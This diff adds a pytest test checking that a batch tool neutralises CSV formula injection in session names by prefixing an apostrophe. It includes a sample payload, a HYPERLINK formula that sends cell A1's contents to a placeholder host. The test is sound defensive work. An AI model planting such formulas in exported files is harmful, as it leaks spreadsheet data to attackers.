@@ -105,6 +105,25 @@ def test_a_folder_of_replayed_fixtures(tmp_path: Path) -> None:
     ]
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_a_session_name_a_spreadsheet_would_run_is_text_in_the_csv(
+    tmp_path: Path, start: str
+) -> None:
+    root = tmp_path / "root"
+    name = f'{start}HYPERLINK("x.invalid?"&A1,"click")'
+    sessions_under(root, [name])
+    results, jsonl, empty = tmp_path / "r.csv", tmp_path / "r.jsonl", tmp_path / "none"
+    empty.mkdir()
+    args = [str(root), "--replay-dir", str(empty), "-q"]
+    result = batch_cli(*args, "--results", str(results))
+    assert result.exit_code == 1  # no replay for it: not written, but still a row
+    with results.open() as handle:
+        (row,) = list(csv.DictReader(handle))
+    assert row["session"] == "'" + name
+    batch_cli(*args, "--results", str(jsonl))
+    assert json.loads(jsonl.read_text())["session"] == name  # JSON Lines keep it exact
+
+
 def test_one_session_failing_never_stops_the_others(tmp_path: Path) -> None:
     root = tmp_path / "root"
     copy_fixtures(root, FIXTURES, ["clean", "no-answer"])
